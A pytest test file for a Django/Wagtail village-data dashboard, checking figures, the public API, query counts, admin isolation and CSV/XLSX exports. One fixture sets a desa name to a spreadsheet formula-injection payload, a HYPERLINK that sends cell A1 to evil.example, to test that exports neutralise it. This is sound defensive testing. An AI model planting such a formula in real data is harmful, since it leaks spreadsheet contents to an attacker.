"""Dashboard figures against hand-computed expectations, the public API,
constant query counts, and the admin panels' desa isolation."""

import csv
import datetime
from decimal import Decimal
from io import BytesIO

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.models import Page

from cms.dashboard.figures import dashboard, integration_phase
from cms.dashboard.models import IDMScore
from cms.opensid.models import PopulationFigures, SyncPush
from tests.conftest import logged_in
from tests.factories import (
    DesaHomePageFactory,
    development_page,
    news_page,
    publish,
)

TODAY = timezone.localdate()
YEAR = TODAY.year


def backdate(page, days):
    moment = timezone.now() - datetime.timedelta(days=days)
    Page.objects.filter(pk=page.pk).update(first_published_at=moment)


@pytest.fixture
def figures_world(kecamatan, desa_a, desa_b, editor_a, editor_b):
    publish(desa_a)
    publish(desa_b)
    done = development_page(
        desa_a,
        title="Jalan",
        budget_total=100,
        budget_pemerintah=60,
        budget_swadaya=40,
        funding_source="dana_desa",
        fiscal_year=YEAR,
        reports=[(datetime.date(YEAR, 1, 10), 40), (datetime.date(YEAR, 1, 20), 100)],
    )
    stalled = development_page(
        desa_a,
        title="Talud",
        budget_total=50,
        budget_pemerintah=50,
        funding_source="add",
        fiscal_year=YEAR,
        reports=[(TODAY - datetime.timedelta(days=120), 30)],
    )
    planned = development_page(
        desa_a, title="Sumur", budget_total=30, funding_source="pad", fiscal_year=YEAR
    )
    development_page(desa_b, title="Lama", budget_total=999, fiscal_year=YEAR - 1)
    draft = development_page(desa_b, title="Draf", budget_total=777, fiscal_year=YEAR)
    draft.live = False
    draft.save()
    for page in (done, stalled, planned):
        publish(page)
    recent = publish(news_page(desa_a, title="Baru"))
    older = publish(news_page(desa_a, title="Agak lama"))
    backdate(older, 60)
    moderated = news_page(desa_b, title="Moderasi", live=False)
    moderated.save_revision(user=editor_b)
    moderated.get_workflow().start(moderated, editor_b)
    IDMScore.objects.create(desa=desa_a, year=YEAR - 1, score=Decimal("0.5500"))
    IDMScore.objects.create(desa=desa_a, year=YEAR, score=Decimal("0.6200"))
    IDMScore.objects.create(desa=desa_b, year=YEAR, score=Decimal("0.4000"))
    return {"recent": recent}


def test_figures_match_hand_computed_values(figures_world, desa_a, desa_b):
    data = dashboard(YEAR)
    a = next(item for item in data.desa if item.desa.pk == desa_a.pk)
    b = next(item for item in data.desa if item.desa.pk == desa_b.pk)
    dev = a.development
    assert dev.projects == 3
    assert dev.by_stage == {"rencana": 1, "kegiatan": 1, "hasil": 1}
    assert dev.budget_total == 180
    assert (dev.by_source["dana_desa"], dev.by_source["add"], dev.by_source["pad"]) == (
        100,
        50,
        30,
    )
    assert dev.by_split == {
        "pemerintah": 110,
        "provinsi": 0,
        "kabupaten": 0,
        "swadaya": 40,
    }
    assert dev.average_progress == round((100 + 30 + 0) / 3, 1)
    assert (dev.completed_in_year, dev.stalled) == (1, 1)
    # Last year's project and the draft do not count in B's year.
    assert b.development.projects == 0
    assert (a.idm.score, a.idm.status, a.idm.previous_status, a.idm.trend) == (
        0.62,
        "berkembang",
        "tertinggal",
        "naik",
    )
    assert (b.idm.status, b.idm.trend) == ("sangat_tertinggal", None)
    assert a.activity.last_30["news"] == 1
    assert a.activity.last_90["news"] == 2
    assert data.development.projects == 3
    assert data.idm_status_counts == {"berkembang": 1, "sangat_tertinggal": 1}


@pytest.mark.parametrize(
    ("joined", "phase"),
    [
        (None, "not_joined"),
        (datetime.date(2026, 3, 2), "1"),  # 60 days after 2026-01-01
        (datetime.date(2026, 3, 3), "2"),
        (datetime.date(2026, 7, 3), "2"),  # day 183
        (datetime.date(2026, 7, 4), "3"),
        (datetime.date(2027, 7, 3), "3"),  # day 548
        (datetime.date(2027, 7, 4), "late"),
    ],
)
def test_integration_phase(joined, phase):
    assert integration_phase(joined)["phase"] == phase


def test_public_api_has_no_moderation_or_draft_information(client, figures_world):
    response = client.get(f"/api/v2/dashboard/?year={YEAR}")
    text = response.content.decode()
    assert response.status_code == 200
    for hidden in ("Moderasi", "Draf", "777", "moderation", "workflow"):
        assert hidden not in text
    data = response.json()
    assert data["kecamatan"]["development"]["projects"] == 3
    giritirta = next(r for r in data["desa"] if r["desa"]["slug"] == "giritirta")
    assert giritirta["idm"]["trend"] == "naik"
    desa = client.get(f"/api/v2/dashboard/desa/33.04.15.2005/?year={YEAR}").json()
    assert sorted(p["title"] for p in desa["projects"]) == ["Jalan", "Sumur", "Talud"]
    assert [h["year"] for h in desa["idm_history"]] == [YEAR - 1, YEAR]


def test_the_dashboard_cache_follows_publishing(client, figures_world, desa_a):
    url = f"/api/v2/dashboard/?year={YEAR}"
    assert client.get(url).json()["kecamatan"]["development"]["projects"] == 3
    publish(development_page(desa_a, title="Baru", fiscal_year=YEAR))
    assert client.get(url).json()["kecamatan"]["development"]["projects"] == 4


def test_the_dashboard_cache_follows_idm_changes(client, figures_world, desa_b):
    url = f"/api/v2/dashboard/?year={YEAR}"

    def status_of_b():
        rows = client.get(url).json()["desa"]
        return next(r for r in rows if r["desa"]["slug"] == "ratamba")["idm"]["status"]

    assert status_of_b() == "sangat_tertinggal"
    score = IDMScore.objects.get(desa=desa_b, year=YEAR)
    score.score = Decimal("0.7500")
    score.save()  # as the IDM snippet editor and import_idm do
    assert status_of_b() == "maju"


def queries(client, url) -> int:
    client.get(url)
    with CaptureQueriesContext(connection) as captured:
        assert client.get(url).status_code == 200
    return len(captured)


def test_query_count_does_not_grow_with_the_number_of_desa(client, kecamatan, settings):
    settings.API_CACHE_ENABLED = False
    url = f"/api/v2/dashboard/?year={YEAR}"
    made = []
    for number in range(60):
        desa = DesaHomePageFactory(
            parent=kecamatan, kode_kemendagri=f"33.04.15.{4001 + number}"
        )
        made.append(desa)
        development_page(desa, fiscal_year=YEAR, reports=[(TODAY, 50)])
        IDMScore.objects.create(desa=desa, year=YEAR, score=Decimal("0.5"))
        for module in ("pembangunan", "penduduk/storedata"):
            SyncPush.objects.create(
                desa=desa, module=module, outcome="berhasil", http_status=200
            )
        PopulationFigures.objects.create(desa=desa, residents=10)
        if number == 16:
            with_17 = queries(client, url)
    with_60 = queries(client, url)
    rows = client.get(url).json()["desa"]
    assert len(rows) == 60
    assert all(len(row["sync"]) == 2 for row in rows)
    assert all(row["sources"]["population"] == ["opensid"] for row in rows)
    # + sources and last pushes (cms/dashboard/sources.py): two queries.
    assert with_17 == with_60 <= 13


def test_admin_panels_never_show_another_desa(
    figures_world, editor_a, editor_b, moderator
):
    editor_home = logged_in(editor_a).get("/admin/").content.decode()
    assert "desa-dashboard" in editor_home
    assert "Giritirta" in editor_home
    assert "Ratamba" not in editor_home
    assert "Moderasi" not in editor_home
    assert "Moderasi" in logged_in(editor_b).get("/admin/").content.decode()
    moderator_home = logged_in(moderator).get("/admin/").content.decode()
    assert "Ratamba" in moderator_home
    assert "Giritirta" in moderator_home
    assert "Moderasi" in moderator_home


def test_export_is_limited_to_the_users_desa(figures_world, editor_a, moderator):
    own = logged_in(editor_a).get(f"/admin/dashboard/export/csv/?year={YEAR}")
    rows = list(csv.reader(own.content.decode("utf-8-sig").splitlines()))
    assert [row[1] for row in rows[1:]] == ["Giritirta"]  # and no kecamatan total
    everything = logged_in(moderator).get(f"/admin/dashboard/export/xlsx/?year={YEAR}")
    assert everything["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(everything.content)).active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        "Giritirta",
        "Ratamba",
        "Jumlah kecamatan",
    ]


def test_csv_export_has_indonesian_headers_and_a_totals_row(figures_world, moderator):
    response = logged_in(moderator).get(f"/admin/dashboard/export/csv/?year={YEAR}")
    assert response.content.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for Excel
    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
    header = rows[0]
    assert header[:4] == ["Kode Kemendagri", "Desa", "Kegiatan pembangunan", "Rencana"]
    for english in ("kode_kemendagri", "projects", "budget_total", "idm_score"):
        assert english not in header
    column = dict(zip(header, zip(*rows[1:], strict=True), strict=True))
    assert column["Desa"] == ("Giritirta", "Ratamba", "Jumlah kecamatan")
    assert column["Anggaran total (rupiah)"] == ("180", "0", "180")
    assert column["Anggaran: Dana Desa (APBN)"] == ("100", "0", "100")
    assert column["Skor IDM"] == ("0.62", "0.4", "0.51")
    assert column["Status IDM"] == ("Berkembang", "Sangat Tertinggal", "")
    assert column["Tren IDM"] == ("naik", "", "")


def test_xlsx_export_has_typed_cells_and_a_totals_row(figures_world, moderator):
    response = logged_in(moderator).get(f"/admin/dashboard/export/xlsx/?year={YEAR}")
    sheet = load_workbook(BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    cells = {
        name: [row[i] for row in sheet.iter_rows(min_row=2)]
        for i, name in enumerate(header)
    }
    giritirta, ratamba, total = range(3)
    assert sheet.max_row == 4
    budget = cells["Anggaran total (rupiah)"]
    assert [cell.value for cell in budget] == [180, 0, 180]
    assert budget[total].data_type == "n"
    assert "#,##0" in budget[total].number_format
    projects = cells["Kegiatan pembangunan"]
    assert [cell.value for cell in projects] == [3, 0, 3]
    assert projects[giritirta].number_format == "#,##0"
    score = cells["Skor IDM"]
    assert score[giritirta].value == 0.62 and score[total].value == 0.51
    assert score[giritirta].number_format == "0.0000"
    published = cells["Terbitan terakhir"]
    assert isinstance(published[giritirta].value, datetime.datetime)
    assert published[giritirta].is_date
    assert published[giritirta].value.date() == timezone.localdate()
    assert published[total].value.date() == timezone.localdate()
    assert published[ratamba].value is None
    assert total_row_is_bold(sheet)


def total_row_is_bold(sheet) -> bool:
    return all(cell.font.bold for cell in sheet[sheet.max_row])


def test_admin_dashboard_shows_totals_for_the_chosen_year(figures_world, moderator):
    client = logged_in(moderator)
    home = client.get("/admin/").content.decode()
    assert "Berkembang" in home and "Sangat Tertinggal" in home
    assert "0,5100" in home  # average IDM score of the two desa
    assert "Dana Desa (APBN)" in home and "Rp 100" in home
    assert "Rp 180" in home  # total
    assert "Alokasi Dana Desa (ADD)" in home and "Rp 50" in home
    last_year = client.get(f"/admin/?year={YEAR - 1}").content.decode()
    assert f'<option value="{YEAR - 1}" selected>' in last_year
    assert "Rp 999" in last_year  # Ratamba's project of last year
    assert "Rp 180" not in last_year
    assert "0,5500" in last_year  # Giritirta's only score of last year


@pytest.mark.parametrize(
    ("bad", "message"),
    [
        ("abc", "Tahun ditulis dengan angka, misalnya 2025"),
        ("2026.5", "Tahun ditulis dengan angka, misalnya 2025"),
        ("-1", "Tahun ditulis dengan angka, misalnya 2025"),
        ("1999", "Tidak ada data untuk tahun 1999"),
        ("99999999999999999999", "Tidak ada data untuk tahun 9999"),
    ],
)
def test_a_bad_year_is_explained_never_a_server_error(
    figures_world, moderator, bad, message
):
    response = logged_in(moderator).get("/admin/", {"year": bad})
    assert response.status_code == 200
    text = response.content.decode()
    assert message in text
    assert f'<option value="{YEAR}" selected>' in text
    assert "Rp 180" in text  # this year's figures instead


def test_phase_lines_say_how_many_joined_and_the_target(
    figures_world, moderator, settings
):
    settings.INTEGRATION_START_DATE = "2026-01-01"
    home = logged_in(moderator).get("/admin/").content.decode()
    assert "desa bergabung, sasaran 1:" in home
    assert " dari 1" not in home


def test_desa_editors_see_only_their_own_totals(figures_world, editor_a):
    home = logged_in(editor_a).get("/admin/").content.decode()
    assert "Rp 180" in home  # Giritirta's own budget
    assert "0,6200" in home
    assert "0,5100" not in home  # not the kecamatan average
    assert "Sangat Tertinggal</th><td>1" not in home  # Ratamba's status
    assert "sasaran" not in home


def test_the_dashboard_names_the_sources_of_the_years_idm(
    client, figures_world, desa_b
):
    url = f"/api/v2/dashboard/?year={YEAR}"
    assert client.get(url).json()["kecamatan"]["idm_sources"] == []
    IDMScore.objects.filter(desa=desa_b, year=YEAR).update(source="Data contoh")
    IDMScore.objects.create(
        desa=desa_b, year=YEAR - 1, score=Decimal("0.4000"), source="Kemendesa"
    )
    score = IDMScore.objects.get(desa=desa_b, year=YEAR)
    score.save()  # renews the cached dashboard
    assert client.get(url).json()["kecamatan"]["idm_sources"] == ["Data contoh"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("year", ["²", "¹⁰", "٢٠٢٥"])
def test_export_years_are_ascii_digits_never_a_server_error(
    desa_a, editor_a, fmt, year
):
    # "²".isdigit() is true but int("²") fails; "٢٠٢٥" is not 2025 either.
    response = logged_in(editor_a).get(
        f"/admin/dashboard/export/{fmt}/", {"year": year}
    )
    assert response.status_code == 200
    this_year = timezone.localdate().year
    assert f'filename="dashboard-{this_year}.{fmt}"' in response["Content-Disposition"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


@pytest.fixture
def formula_desa(desa_a):
    # A desa name a spreadsheet would run as a formula.
    desa_a.name = FORMULA
    desa_a.save_revision().publish()
    return desa_a


def test_xlsx_export_writes_text_that_looks_like_a_formula_as_text(
    formula_desa, moderator
):
    response = logged_in(moderator).get("/admin/dashboard/export/xlsx/")
    sheet = load_workbook(BytesIO(response.content)).active
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert FORMULA in [cell.value for cell in names]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_csv_export_quotes_text_that_looks_like_a_formula(formula_desa, moderator):
    response = logged_in(moderator).get("/admin/dashboard/export/csv/")
    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
    assert "'" + FORMULA in [row[1] for row in rows]
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "@")) for cell in row)
